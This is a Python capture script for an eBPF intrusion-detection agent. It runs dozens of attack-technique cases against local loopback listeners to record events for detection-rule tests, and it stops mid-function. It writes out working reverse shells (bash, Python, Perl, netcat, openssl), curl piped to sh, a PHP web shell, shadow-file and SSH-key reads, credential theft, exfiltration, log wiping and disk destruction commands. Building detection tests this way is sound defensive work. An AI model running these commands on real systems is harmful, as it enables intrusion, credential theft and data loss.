"""Re-records the captures the bundled rule pack is tested on (root only; tests never run it).

    cd /work/main && .venv/bin/python tests/data/rules/capture.py            # every case
    cd /work/main && .venv/bin/python tests/data/rules/capture.py --only shadow_read benign

It starts the real agent with the eBPF sensor in this process (so the agent and the lab
listeners below are never traced), waits for the probes, then runs each case in CASES as
``sh -c SCRIPT pa-case-NAME``: the marker in argv names the root of the case's process tree.
Setup and cleanup commands run outside that tree. When the agent has stopped, the events of
each tree (and any ``gap`` event of the same period, so a loss would show) are written to
``cases/NAME.ndjson.gz`` and ``manifest.json`` lists every case with the rules it must fire.

Safety: the only network peers are the listeners this script opens on 127.0.0.1; system
files are only opened for appending with nothing written (``: >> /etc/hosts``), or created
where they did not exist and removed afterwards (the script refuses to run a case whose
"absent" paths exist); users, groups, loop devices and background processes are the
script's own and are removed by it (by pid, never by name).
"""

# ruff: noqa: E501  (the attack one-liners below are kept on one line, as they are typed)

from __future__ import annotations

import argparse
import gzip
import http.server
import json
import os
import platform
import pwd
import shutil
import socket
import subprocess
import threading
import time
from dataclasses import dataclass
from pathlib import Path
from typing import ClassVar

from provarmor.agent.runner import Agent
from provarmor.agent.settings import AgentSettings, SensorChoice

HERE = Path(__file__).resolve().parent
CASES_DIR = HERE / "cases"
MANIFEST = HERE / "manifest.json"
WORK_ROOT = Path("/tmp/pa-rules")
USER = "parules"
HOME = Path("/home") / USER
MARK = "pa-case-"
FIXED_PORTS = (4444, 3333)
"""Listeners on well-known 'suspicious' ports: each accepts, reads briefly and closes."""
ENV = {
    "PATH": "/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
    "LC_ALL": "C",
    "HOME": str(WORK_ROOT / "home"),
    "TERM": "dumb",
}
"""The cases run with an empty home directory (no shell start-up files to read); the benign
workload runs with root's real one."""
PY = "/usr/bin/python3 -I -S"


@dataclass(frozen=True)
class Case:
    name: str
    script: str
    expect: tuple[str, ...]
    """Names of the rules (file stems) that must fire on this capture."""
    setup: str = ""
    cleanup: str = ""
    absent: tuple[str, ...] = ()
    """System paths the case creates: they must not exist before, and are removed after."""
    agent_socket: bool = False
    """Run an ssh-agent as the lab user for the case (killed by pid afterwards)."""


def _case(name: str, script: str, *expect: str, **options: object) -> Case:
    return Case(name, script.strip(), tuple(expect), **options)  # type: ignore[arg-type]


SLEEPER = "sleep 5 & pid=$!; sleep 0.2;"

CASES: tuple[Case, ...] = (
    # -- execution -------------------------------------------------------------------------
    _case(
        "bash_dev_tcp_reverse_shell",
        "timeout 5 bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1' || true",
        "reverse_shell_dev_tcp",
        "suspicious_port_connection",
    ),
    _case(
        "python_reverse_shell",
        f"""
timeout 5 {PY} -c 'import socket,os,subprocess;s=socket.socket();s.connect(("127.0.0.1",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);subprocess.call(["/bin/sh","-i"])' || true
timeout 5 {PY} -c 'import pty; pty.spawn("/bin/true")' || true
""",
        "python_socket_shell",
        "python_pty_spawn",
        "suspicious_port_connection",
    ),
    _case(
        "perl_reverse_shell",
        """timeout 5 perl -e 'use Socket;$i="127.0.0.1";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};' || true""",
        "perl_socket_shell",
        "suspicious_port_connection",
    ),
    _case(
        "node_child_process",
        """node -e "require('child_process').execSync('id', {stdio: 'inherit'})" """,
        "node_child_process",
        "user_discovery",
    ),
    _case(
        "download_piped_to_shell",
        "curl -s @HTTP@/hello.sh | sh",
        "download_piped_to_shell",
    ),
    _case(
        "exec_from_dev_shm",
        "mkdir -p /dev/shm/pa-rules && cp /usr/bin/true /dev/shm/pa-rules/update"
        " && chmod 755 /dev/shm/pa-rules/update && /dev/shm/pa-rules/update",
        "exec_from_dev_shm",
        absent=("/dev/shm/pa-rules",),
    ),
    _case(
        "library_from_temp",
        f"""
cp /usr/lib/x86_64-linux-gnu/libz.so.1 @WORK@/libhelper.so
{PY} -c 'import ctypes; ctypes.CDLL("@WORK@/libhelper.so")'
""",
        "library_loaded_from_temp",
    ),
    _case(
        "ld_preload_env",
        """
cp /usr/lib/x86_64-linux-gnu/libz.so.1 @WORK@/libhelper.so
env LD_PRELOAD=@WORK@/libhelper.so /usr/bin/true
""",
        "ld_preload_in_command_line",
        "library_loaded_from_temp",
    ),
    _case(
        "systemd_run",
        "systemd-run --unit pa-rules-transient /usr/bin/true || true",
        "systemd_run_transient",
    ),
    # -- persistence -----------------------------------------------------------------------
    _case(
        "crontab_install",
        """
printf '# pa-rules test entry\\n' > @WORK@/cron.txt
crontab -u @USER@ @WORK@/cron.txt
crontab -u @USER@ -l
""",
        "crontab_modified",
        "cron_file_written",
        cleanup="crontab -u @USER@ -r || true",
    ),
    _case(
        "cron_d_file",
        "printf '# pa-rules test\\n' > /etc/cron.d/pa-rules-test",
        "cron_file_written",
        absent=("/etc/cron.d/pa-rules-test",),
    ),
    _case(
        "systemd_units",
        """
printf '[Unit]\\nDescription=pa-rules test\\n' > /etc/systemd/system/pa-rules-test.service
printf '[Timer]\\nOnCalendar=yearly\\n' > /etc/systemd/system/pa-rules-test.timer
""",
        "systemd_service_created",
        "systemd_timer_created",
        absent=(
            "/etc/systemd/system/pa-rules-test.service",
            "/etc/systemd/system/pa-rules-test.timer",
        ),
    ),
    _case(
        "authorized_keys",
        "mkdir -p @HOME@/.ssh && echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPaRulesLabKeyNotARealKey0000000000000000000 lab'"
        " >> @HOME@/.ssh/authorized_keys",
        "authorized_keys_modified",
        cleanup="rm -rf @HOME@/.ssh",
    ),
    _case(
        "useradd_account",
        "useradd -M -s /usr/sbin/nologin parules2",
        "local_account_created",
        cleanup="userdel parules2 || true",
    ),
    _case("passwd_append", ": >> /etc/passwd", "passwd_file_modified_directly"),
    _case(
        "group_add_privileged",
        "usermod -aG sudo @USER@ && gpasswd -d @USER@ sudo",
        "user_added_to_privileged_group",
        cleanup="gpasswd -d @USER@ sudo || true",
    ),
    _case("shell_profile", "echo '# pa-rules' >> @HOME@/.bashrc", "shell_profile_modified"),
    _case(
        "ld_so_preload",
        ": > /etc/ld.so.preload",
        "ld_so_preload_written",
        absent=("/etc/ld.so.preload",),
    ),
    _case(
        "modules_load_config",
        "printf '# pa-rules\\n' > /etc/modules-load.d/pa-rules-test.conf",
        "kernel_module_config_written",
        absent=("/etc/modules-load.d/pa-rules-test.conf",),
    ),
    _case(
        "rc_local",
        "printf '#!/bin/sh\\nexit 0\\n' > /etc/rc.local",
        "rc_local_modified",
        absent=("/etc/rc.local",),
    ),
    _case(
        "web_shell",
        """
mkdir -p /var/www/html
printf '<?php system($_GET["c"]); ?>\\n' > /var/www/html/pa-rules-shell.php
printf 'defaced by the pa-rules lab\\n' > /var/www/html/index.html
""",
        "web_shell_dropped",
        "web_defacement",
        absent=("/var/www",),
    ),
    _case(
        "xdg_autostart",
        "mkdir -p @HOME@/.config/autostart && printf '[Desktop Entry]\\nType=Application\\n"
        "Exec=/bin/true\\n' > @HOME@/.config/autostart/pa-rules.desktop",
        "xdg_autostart_entry",
        cleanup="rm -rf @HOME@/.config",
    ),
    _case(
        "udev_rule",
        "mkdir -p /etc/udev/rules.d && printf '# pa-rules\\n' > /etc/udev/rules.d/99-pa-rules.rules",
        "udev_rule_written",
        absent=("/etc/udev",),
    ),
    _case(
        "system_binary",
        "cp /usr/bin/true /usr/bin/pa-rules-implant",
        "system_binary_replaced",
        absent=("/usr/bin/pa-rules-implant",),
    ),
    _case("pam_config", ": >> /etc/pam.d/common-auth", "pam_config_modified"),
    # -- privilege escalation --------------------------------------------------------------
    _case(
        "setuid_binary",
        "cp /usr/bin/true @WORK@/rootshell && chmod u+s @WORK@/rootshell"
        " && chmod 4755 @WORK@/rootshell",
        "setuid_bit_set",
        "setuid_chmod_command",
    ),
    _case(
        "capability",
        "cp /usr/bin/true @WORK@/capbin && setcap cap_setuid+ep @WORK@/capbin",
        "capability_assigned",
    ),
    _case("sudoers", ": >> /etc/sudoers", "sudoers_modified"),
    _case("nsenter_pid1", "nsenter -t 1 -m -u -i -n -- /usr/bin/true", "nsenter_host_namespaces"),
    _case(
        "docker_privileged",
        "docker run --rm --privileged -v /:/host alpine chroot /host true || true",
        "privileged_container_started",
    ),
    _case(
        "ptrace_attach",
        f"""
{SLEEPER}
{PY} -c 'import ctypes,os,sys; libc=ctypes.CDLL(None, use_errno=True); p=int(sys.argv[1]); print(libc.ptrace(16, p, 0, 0)); os.waitpid(p, 0); libc.ptrace(17, p, 0, 0)' $pid
kill $pid
""",
        "ptrace_attach",
    ),
    _case(
        "proc_mem_write",
        f"""
{SLEEPER}
{PY} -c 'import os,sys; os.close(os.open("/proc/%s/mem" % sys.argv[1], os.O_RDWR))' $pid
kill $pid
""",
        "proc_mem_written",
    ),
    # -- defence evasion -------------------------------------------------------------------
    _case(
        "history_clearing",
        """
rm @HOME@/.bash_history
ln -sf /dev/null @HOME@/.bash_history
bash -c 'history -c'
""",
        "shell_history_deleted",
        "shell_history_cleared_by_command",
        setup="printf 'ls\\n' > @HOME@/.bash_history",
        cleanup="rm -f @HOME@/.bash_history",
    ),
    _case(
        "history_disabled",
        "bash -c 'unset HISTFILE; export HISTSIZE=0; set +o history; true'",
        "history_logging_disabled",
    ),
    _case(
        "log_wipe",
        """
truncate -s 0 /var/log/pa-rules-test.log
echo again >> /var/log/pa-rules-test.log
: > /var/log/pa-rules-test.log
shred -u /var/log/pa-rules-test.log
""",
        "log_file_wiped_by_command",
        "log_file_deleted",
        "secure_file_wipe",
        setup="printf 'pa-rules log line\\n' > /var/log/pa-rules-test.log",
        absent=("/var/log/pa-rules-test.log",),
    ),
    _case(
        "indicator_files",
        "rm -f @HOME@/.viminfo @HOME@/.lesshst @HOME@/.ssh/known_hosts",
        "indicator_files_deleted",
        setup="mkdir -p @HOME@/.ssh && touch @HOME@/.viminfo @HOME@/.lesshst"
        " @HOME@/.ssh/known_hosts",
        cleanup="rm -rf @HOME@/.ssh",
    ),
    _case(
        "timestomp",
        "touch @WORK@/implant && touch -r /etc/hostname @WORK@/implant"
        " && touch -t 202001010000 @WORK@/implant",
        "timestomp_touch",
    ),
    _case(
        "permissions",
        "touch @WORK@/f && chmod 777 @WORK@/f && chattr +i @WORK@/f && chattr -i @WORK@/f",
        "world_writable_permissions",
        "immutable_attribute_changed",
    ),
    _case(
        "security_tool_stop",
        """
systemctl stop falco.service || true
pkill -x osqueryd || true
killall -q auditbeat || true
""",
        "security_tool_stopped",
    ),
    _case(
        "audit_disable",
        """
unshare --user --map-root-user auditctl -D || true
unshare --user --map-root-user auditctl -e 0 || true
: >> /etc/audit/auditd.conf
""",
        "audit_system_disabled",
        "audit_config_modified",
    ),
    _case("logging_config", ": >> /etc/systemd/journald.conf", "logging_config_modified"),
    _case(
        "hidden_exec",
        "mkdir -p @WORK@/.cache && cp /usr/bin/true @WORK@/.cache/.updater"
        " && @WORK@/.cache/.updater",
        "hidden_executable_in_temp",
    ),
    _case(
        "masquerade",
        "mkdir -p /var/tmp/pa-rules && cp /usr/bin/sleep /var/tmp/pa-rules/sshd"
        " && /var/tmp/pa-rules/sshd 0.1",
        "system_name_masquerading",
        absent=("/var/tmp/pa-rules",),
    ),
    _case(
        "base64_to_shell",
        "echo aWQK | base64 -d | sh",
        "base64_decoded_to_shell",
        "user_discovery",
    ),
    _case(
        "python_obfuscated_exec",
        f"""{PY} -c 'import base64;exec(base64.b64decode("cHJpbnQoImhlbGxvIik="))'""",
        "obfuscated_script_execution",
    ),
    _case(
        "root_certificate",
        "cp /usr/local/share/ca-certificates/custom-ca.crt"
        " /usr/local/share/ca-certificates/pa-rules-test.crt",
        "root_certificate_added",
        absent=("/usr/local/share/ca-certificates/pa-rules-test.crt",),
    ),
    _case(
        "memfd_exec",
        f"""{PY} -c 'import os; fd = os.memfd_create("pa-rules", 0); os.write(fd, open("/usr/bin/true", "rb").read()); os.execv("/proc/self/fd/%d" % fd, ["kworker"])'""",
        "memfd_created",
        "fileless_execution",
    ),
    _case(
        "compile_in_tmp",
        "printf 'int main(void){return 0;}\\n' > @WORK@/x.c && gcc -o @WORK@/implant @WORK@/x.c",
        "compile_in_temp_dir",
    ),
    _case(
        "proc_hide_mount",
        f"""
{SLEEPER}
mkdir -p @WORK@/empty
unshare -m sh -c "mount --bind @WORK@/empty /proc/$pid && umount /proc/$pid"
kill $pid
""",
        "proc_pid_bind_mount",
    ),
    # -- credential access -----------------------------------------------------------------
    _case(
        "shadow_read",
        f"""
cat /etc/shadow > /dev/null
{PY} -c 'open("/etc/gshadow").read()'
""",
        "shadow_file_read",
    ),
    _case(
        "proc_mem_read",
        f"""
{SLEEPER}
cat /proc/$pid/environ > /dev/null
{PY} -c 'import sys; p = sys.argv[1]; f = open("/proc/%s/maps" % p).readline().split()[0].split("-"); m = open("/proc/%s/mem" % p, "rb"); m.seek(int(f[0], 16)); m.read(64)' $pid
kill $pid
""",
        "proc_memory_read",
    ),
    _case(
        "ssh_key_theft",
        """
cat @HOME@/.ssh/id_ed25519 > /dev/null
cat /etc/ssh/ssh_host_ed25519_key > /dev/null
find @HOME@ -name 'id_*'
grep -rl 'PRIVATE KEY' @HOME@/.ssh
""",
        "ssh_private_key_read",
        "private_key_search",
        setup="mkdir -p @HOME@/.ssh && ssh-keygen -q -t ed25519 -N '' -f @HOME@/.ssh/id_ed25519",
        cleanup="rm -rf @HOME@/.ssh",
    ),
    _case(
        "password_grep",
        "grep -ri password @WORK@",
        "password_search_in_files",
        setup="printf 'db_user=app\\ndb_password=hunter2\\n' > @WORK@/app.conf",
    ),
    _case(
        "cloud_creds",
        "cat @HOME@/.aws/credentials @HOME@/.git-credentials > /dev/null",
        "cloud_credentials_read",
        setup="mkdir -p @HOME@/.aws && printf '[default]\\naws_access_key_id=AKIAEXAMPLE\\n'"
        " > @HOME@/.aws/credentials && printf 'https://u:p@git.example.invalid\\n'"
        " > @HOME@/.git-credentials",
        cleanup="rm -rf @HOME@/.aws @HOME@/.git-credentials",
    ),
    _case(
        "history_read",
        "cat @HOME@/.bash_history | grep -i -e pass -e secret",
        "shell_history_read",
        setup="printf 'mysql -u app -psecret\\n' > @HOME@/.bash_history",
        cleanup="rm -f @HOME@/.bash_history",
    ),
    _case(
        "browser_creds",
        """
mkdir -p @WORK@/loot
cp @HOME@/.mozilla/firefox/lab.default/logins.json @HOME@/.mozilla/firefox/lab.default/key4.db @WORK@/loot/
cp "@HOME@/.config/google-chrome/Default/Login Data" @WORK@/loot/
cp @HOME@/.mozilla/firefox/lab.default/cookies.sqlite @HOME@/.config/google-chrome/Default/Cookies @WORK@/loot/
""",
        "browser_credentials_read",
        "browser_cookies_read",
        setup="""
mkdir -p @HOME@/.mozilla/firefox/lab.default @HOME@/.config/google-chrome/Default
for f in logins.json key4.db cookies.sqlite; do echo lab > @HOME@/.mozilla/firefox/lab.default/$f; done
echo lab > "@HOME@/.config/google-chrome/Default/Login Data"
echo lab > @HOME@/.config/google-chrome/Default/Cookies
""",
        cleanup="rm -rf @HOME@/.mozilla @HOME@/.config",
    ),
    _case(
        "password_store",
        "cp @HOME@/Passwords.kdbx @WORK@/",
        "password_store_read",
        setup="echo lab > @HOME@/Passwords.kdbx",
        cleanup="rm -f @HOME@/Passwords.kdbx",
    ),
    _case(
        "kerberos_ccache",
        "cp /tmp/krb5cc_4242 @WORK@/",
        "kerberos_ticket_read",
        setup="echo lab > /tmp/krb5cc_4242",
        absent=("/tmp/krb5cc_4242",),
    ),
    _case(
        "strace_keylog",
        f"""
{SLEEPER}
timeout 1 strace -e trace=read -p $pid || true
kill $pid
""",
        "keylogging_with_strace",
    ),
    # -- discovery -------------------------------------------------------------------------
    _case(
        "host_discovery",
        """
uname -a; hostnamectl || true; cat /etc/os-release > /dev/null
whoami; id; w
getent passwd > /dev/null; cat /etc/passwd > /dev/null
getent group > /dev/null; groups
ip addr > /dev/null; ifconfig > /dev/null 2>&1; cat /etc/resolv.conf > /dev/null
ss -tunap > /dev/null; netstat -an > /dev/null 2>&1
ps aux > /dev/null; pgrep -a sshd > /dev/null || true
""",
        "system_information_discovery",
        "user_discovery",
        "local_account_discovery",
        "local_group_discovery",
        "network_configuration_discovery",
        "network_connections_discovery",
        "process_discovery",
        "discovery_burst",
    ),
    _case(
        "suid_search",
        "find /usr/bin /usr/sbin -perm -4000 -type f",
        "suid_binary_search",
    ),
    _case(
        "security_tool_discovery",
        "ps aux | grep -i -e falco -e osquery -e auditd > /dev/null; pgrep -l auditd || true",
        "security_software_discovery",
        "process_discovery",
    ),
    _case(
        "software_services",
        """
dpkg -l > /dev/null
apt list --installed 2>/dev/null | head -n 3 > /dev/null
systemctl list-units --type=service || true
service --status-all > /dev/null 2>&1 || true
""",
        "software_discovery",
        "service_discovery",
    ),
    _case(
        "port_scan",
        f"""
{PY} -c 'import socket; [socket.socket().connect_ex(("127.0.0.1", p)) for p in range(40100, 40130)]'
nc -z -w 1 127.0.0.1 40100-40110 || true
""",
        "outbound_connection_attempt",
        "port_scan_connections",
        "network_scanner_tool",
    ),
    _case(
        "password_policy",
        """
chage -l root > /dev/null
cat /etc/login.defs > /dev/null
grep -v '^#' /etc/pam.d/common-password > /dev/null
""",
        "password_policy_discovery",
    ),
    _case(
        "locale_time",
        "locale > /dev/null; localectl status || true; timedatectl || true; cat /etc/timezone",
        "system_language_discovery",
        "system_time_discovery",
    ),
    _case(
        "remote_systems",
        "arp -an || true; ip neigh > /dev/null; cat /etc/hosts > /dev/null",
        "remote_system_discovery",
    ),
    _case(
        "virtualization",
        """
systemd-detect-virt || true
cat /sys/class/dmi/id/product_name 2>/dev/null || true
grep -c hypervisor /proc/cpuinfo || true
""",
        "virtualization_checks",
    ),
    _case(
        "driver_discovery",
        "cat /proc/modules > /dev/null; ls /sys/module > /dev/null",
        "driver_discovery",
    ),
    _case(
        "log_enumeration",
        """
journalctl -n 5 --no-pager || true
tail -n 5 /var/log/auth.log 2>/dev/null || true
lastb 2>/dev/null | head -n 3 || true
""",
        "log_enumeration",
    ),
    _case(
        "container_discovery",
        """
docker ps || true
kubectl --server=http://127.0.0.1:9 get pods || true
cat /proc/1/cgroup > /dev/null
""",
        "container_discovery",
    ),
    # -- lateral movement ------------------------------------------------------------------
    _case(
        "ssh_remote_command",
        "ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes"
        " -o ConnectTimeout=2 -p 9 root@127.0.0.1 id || true",
        "ssh_noninteractive_options",
    ),
    _case(
        "scp_tool_transfer",
        """
cp /usr/bin/true @WORK@/tool
scp -o BatchMode=yes -o ConnectTimeout=2 -P 9 @WORK@/tool root@127.0.0.1:/tmp/ || true
rsync -e 'ssh -p 9 -o BatchMode=yes -o ConnectTimeout=2' @WORK@/tool root@127.0.0.1:/tmp/ || true
""",
        "remote_copy_tool",
    ),
    _case(
        "ssh_agent_hijack",
        "env SSH_AUTH_SOCK=/tmp/ssh-pa-rules/agent.4242 ssh-add -l || true",
        "ssh_agent_socket_hijack",
        setup="mkdir -p /tmp/ssh-pa-rules && chown @USER@ /tmp/ssh-pa-rules"
        " && chmod 700 /tmp/ssh-pa-rules",
        absent=("/tmp/ssh-pa-rules",),
        agent_socket=True,
    ),
    # -- collection ------------------------------------------------------------------------
    _case(
        "archive_loot",
        """
tar czf @WORK@/loot.tgz /etc/hostname /etc/passwd 2>/dev/null
zip -q -P infected @WORK@/loot.zip /etc/hostname
mkdir -p @WORK@/.stage && tar czf @WORK@/.stage/s.tgz /etc/hostname 2>/dev/null
mkdir -p /dev/shm/pa-rules-stage && cp @WORK@/loot.zip /dev/shm/pa-rules-stage/x.zip
""",
        "sensitive_data_archived",
        "archive_with_password",
        "archive_staged_in_temp",
        absent=("/dev/shm/pa-rules-stage",),
    ),
    _case(
        "document_search",
        "find /root /home -maxdepth 3 \\( -name '*.pdf' -o -name '*.docx' -o -name '*.kdbx' \\)"
        " 2>/dev/null || true",
        "document_search",
    ),
    _case(
        "mail_read",
        "cat /var/mail/@USER@ > /dev/null",
        "mail_spool_read",
        setup="printf 'From lab\\n\\nsecret\\n' > /var/mail/@USER@",
        cleanup="rm -f /var/mail/@USER@",
    ),
    # -- command and control ---------------------------------------------------------------
    _case(
        "download_to_tmp",
        """
curl -s -o /dev/shm/pa-rules-payload @HTTP@/payload && chmod +x /dev/shm/pa-rules-payload
wget -q -O @WORK@/p2 @HTTP@/payload
""",
        "download_to_temp_dir",
        absent=("/dev/shm/pa-rules-payload",),
    ),
    _case(
        "fifo_netcat_shell",
        """
rm -f @WORK@/f; mkfifo @WORK@/f
timeout 5 sh -c 'cat @WORK@/f | /bin/sh -i 2>&1 | nc 127.0.0.1 4444 > @WORK@/f' || true
""",
        "reverse_shell_fifo",
        "suspicious_port_connection",
    ),
    _case(
        "netcat_exec",
        "timeout 3 nc -e /bin/sh 127.0.0.1 4444 || true",
        "netcat_exec",
    ),
    _case(
        "ssh_tunnels",
        """
ssh -o BatchMode=yes -o ConnectTimeout=2 -N -L 18080:127.0.0.1:80 -p 9 root@127.0.0.1 || true
ssh -o BatchMode=yes -o ConnectTimeout=2 -N -R 19999:127.0.0.1:22 -p 9 root@127.0.0.1 || true
ssh -o BatchMode=yes -o ConnectTimeout=2 -N -D 11080 -p 9 root@127.0.0.1 || true
""",
        "ssh_port_forwarding",
        "ssh_socks_proxy",
    ),
    _case(
        "openssl_shell",
        """
rm -f @WORK@/s; mkfifo @WORK@/s
timeout 5 sh -c '/bin/sh -i < @WORK@/s 2>&1 | openssl s_client -quiet -connect 127.0.0.1:4444 > @WORK@/s' || true
""",
        "openssl_reverse_shell",
        "reverse_shell_fifo",
        "suspicious_port_connection",
    ),
    # -- exfiltration ----------------------------------------------------------------------
    _case(
        "http_upload",
        """
curl -s -X POST --data-binary @/etc/hostname @HTTP@/upload > /dev/null
wget -q -O /dev/null --post-file=/etc/hostname @HTTP@/upload
""",
        "http_file_upload",
    ),
    _case(
        "raw_socket_exfil",
        """
bash -c 'cat /etc/hostname > /dev/tcp/127.0.0.1/@SINK@'
nc -N -w 2 127.0.0.1 @SINK@ < /etc/hostname
""",
        "raw_socket_exfiltration",
    ),
    _case(
        "split_archive",
        "tar czf @WORK@/data.tgz /etc/hostname /etc/os-release 2>/dev/null"
        " && split -b 100 @WORK@/data.tgz @WORK@/part_",
        "archive_split",
        "sensitive_data_archived",
    ),
    _case(
        "tar_over_ssh",
        "tar czf - /etc/hostname 2>/dev/null | ssh -o BatchMode=yes -o ConnectTimeout=2 -p 9"
        " root@127.0.0.1 'cat > /tmp/x.tgz' || true",
        "archive_piped_to_ssh",
        "sensitive_data_archived",
    ),
    # -- impact ----------------------------------------------------------------------------
    _case(
        "data_destruction",
        "shred -u -n 1 @WORK@/data/report.txt; rm -rf --no-preserve-root @WORK@/data",
        "secure_file_wipe",
        "rm_no_preserve_root",
        setup="mkdir -p @WORK@/data && echo lab > @WORK@/data/report.txt"
        " && echo lab > @WORK@/data/notes.txt",
    ),
    _case(
        "disk_wipe",
        """
dd if=/dev/zero of=$(cat @WORK@/loopdev) bs=64k count=4 2>/dev/null
wipefs -a $(cat @WORK@/loopdev)
""",
        "disk_content_overwritten",
        "disk_structure_wiped",
        setup="truncate -s 8M @WORK@/disk.img && losetup -f --show @WORK@/disk.img"
        " > @WORK@/loopdev",
        cleanup="losetup -d $(cat @WORK@/loopdev)",
    ),
    _case(
        "ransomware_rename",
        f"""
openssl enc -aes-256-cbc -pbkdf2 -salt -in @WORK@/doc0 -out @WORK@/doc0.enc -pass pass:pa-rules
{PY} -c 'import os; [os.rename("@WORK@/doc%d" % i, "@WORK@/doc%d.locked" % i) for i in range(12)]'
""",
        "file_renamed_to_ransom_extension",
        "ransom_extension_rename_burst",
        "file_encryption_tool",
        setup="for i in 0 1 2 3 4 5 6 7 8 9 10 11; do echo lab > @WORK@/doc$i; done",
    ),
    _case(
        "service_stop",
        """
systemctl stop mysql.service || true
systemctl disable nginx || true
service docker stop || true
""",
        "critical_service_stopped",
    ),
    _case(
        "backup_delete",
        "rm -f /var/backups/pa-rules-test.tar.bak",
        "backup_files_deleted",
        setup="echo lab > /var/backups/pa-rules-test.tar.bak",
        absent=("/var/backups/pa-rules-test.tar.bak",),
    ),
    _case(
        "miner",
        f"""timeout 3 {PY} -c 'import socket; s = socket.socket(); s.settimeout(1); s.connect_ex(("127.0.0.1", 3333))' -o stratum+tcp://127.0.0.1:3333 -u lab-wallet --donate-level 1 || true""",
        "miner_command_line",
        "mining_pool_port_connection",
    ),
    _case(
        "account_lockout",
        "passwd -l @USER@; usermod -L @USER@; chage -E 0 @USER@",
        "account_locked_or_expired",
        cleanup="chage -E -1 @USER@; usermod -U @USER@ || true",
    ),
    _case(
        "shutdown_attempt",
        "unshare --user --map-root-user --pid --fork --mount-proc"
        " systemctl --dry-run poweroff || true",
        "system_shutdown_or_reboot",
    ),
    _case("hosts_modify", ": >> /etc/hosts", "hosts_file_modified"),
)
BENIGN = "benign"


# -- lab listeners (in this process, so never traced) ------------------------------------


class _Lab(http.server.BaseHTTPRequestHandler):
    files: ClassVar[dict[str, bytes]] = {
        "/hello.sh": b"echo hello from the pa-rules lab\n",
        "/payload": b"#!/bin/sh\necho payload\n",
        "/": b"<html><body>pa-rules lab</body></html>\n",
    }

    def do_GET(self) -> None:
        body = self.files.get(self.path, b"")
        self.send_response(200 if body else 404)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_POST(self) -> None:
        self.rfile.read(int(self.headers.get("Content-Length", "0") or 0))
        self.send_response(200)
        self.send_header("Content-Length", "0")
        self.end_headers()

    def log_message(self, format: str, *args: object) -> None:
        del format, args


def _closer(port: int, *, linger: float = 0.3) -> socket.socket:
    """A listener that accepts, reads for ``linger`` seconds and closes."""
    server = socket.create_server(("127.0.0.1", port), reuse_port=False)

    def serve() -> None:
        while True:
            try:
                connection, _ = server.accept()
            except OSError:
                return
            connection.settimeout(linger)
            try:
                while connection.recv(4096):
                    pass
            except OSError:
                pass
            connection.close()

    threading.Thread(target=serve, daemon=True).start()
    return server


# -- running ---------------------------------------------------------------------------------


def _fill(text: str, tokens: dict[str, str]) -> str:
    for key, value in tokens.items():
        text = text.replace(f"@{key}@", value)
    return text


def _shell(text: str, tokens: dict[str, str]) -> None:
    if text:
        subprocess.run(["sh", "-c", _fill(text, tokens)], env=ENV, check=False, timeout=60)


def _run_case(case: Case, tokens: dict[str, str]) -> None:
    for path in case.absent:
        if os.path.lexists(path):
            raise SystemExit(f"{case.name}: {path} exists; refusing to run (it would be removed)")
    work = WORK_ROOT / case.name
    work.mkdir(parents=True, exist_ok=True)
    tokens = {**tokens, "WORK": str(work)}
    _shell(case.setup, tokens)
    agent = None
    try:
        if case.agent_socket:
            agent = subprocess.Popen(
                ["ssh-agent", "-D", "-a", "/tmp/ssh-pa-rules/agent.4242"],
                user=USER,
                group=pwd.getpwnam(USER).pw_gid,
                env=ENV,
                stdout=subprocess.DEVNULL,
            )
            time.sleep(0.5)
        argv = ["sh", "-c", _fill(case.script, tokens), MARK + case.name]
        subprocess.run(argv, cwd=work, env=ENV, timeout=90, check=False, stdin=subprocess.DEVNULL)
        time.sleep(0.3)
    finally:
        if agent is not None:
            agent.terminate()
            agent.wait(timeout=10)
        _shell(case.cleanup, tokens)
        for path in case.absent:
            target = Path(path)
            if target.is_dir() and not target.is_symlink():
                shutil.rmtree(target)
            elif os.path.lexists(target):
                target.unlink()


def _run_benign() -> None:
    work = Path("/root/pa-rules-benign")
    if work.exists():
        raise SystemExit(f"{work} exists; refusing to run the benign workload")
    work.mkdir()
    try:
        argv = ["sh", str(HERE / "benign.sh"), str(work), MARK + BENIGN]
        env = {**ENV, "HOME": "/root"}
        subprocess.run(argv, cwd=work, env=env, timeout=600, check=True, stdin=subprocess.DEVNULL)
    finally:
        shutil.rmtree(work)


def _with_user() -> None:
    subprocess.run(["useradd", "-m", "-s", "/bin/bash", USER], check=True)


def _without_user() -> None:
    subprocess.run(["userdel", "-r", USER], check=False, capture_output=True)


def _record(names: list[str], out: Path) -> None:
    """Run the agent around the selected cases; all events go to ``out``."""
    http_server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Lab)
    threading.Thread(target=http_server.serve_forever, daemon=True).start()
    listeners = [_closer(port) for port in FIXED_PORTS]
    sink = _closer(0)
    port = http_server.server_address[1]
    tokens = {
        "HTTP": f"http://127.0.0.1:{port}",
        "SINK": str(sink.getsockname()[1]),
        "USER": USER,
        "HOME": str(HOME),
    }
    settings = AgentSettings(
        sensor=SensorChoice.EBPF,
        state_dir=WORK_ROOT / "agent-state",
        status_interval_seconds=0.5,
        ebpf_perf_rb_pages=2048,
    )
    stop = threading.Event()
    agent = Agent(settings, out=out)
    thread = threading.Thread(target=agent.run, args=(stop,))
    thread.start()
    deadline = time.monotonic() + 120
    while agent.run_state.status is None and time.monotonic() < deadline:
        time.sleep(0.2)
    if agent.run_state.status is None:
        stop.set()
        raise SystemExit("the agent did not start")
    time.sleep(2.0)
    try:
        for case in CASES:
            if case.name in names:
                print(f"case {case.name}", flush=True)
                _run_case(case, tokens)
        if BENIGN in names:
            print("benign workload", flush=True)
            _run_benign()
        time.sleep(2.0)
    finally:
        stop.set()
        thread.join(timeout=180)
        http_server.shutdown()
        for listener in (*listeners, sink):
            listener.close()


# -- splitting -------------------------------------------------------------------------------


def _trees(events: list[dict[str, object]], names: list[str]) -> dict[str, tuple[str, set[str]]]:
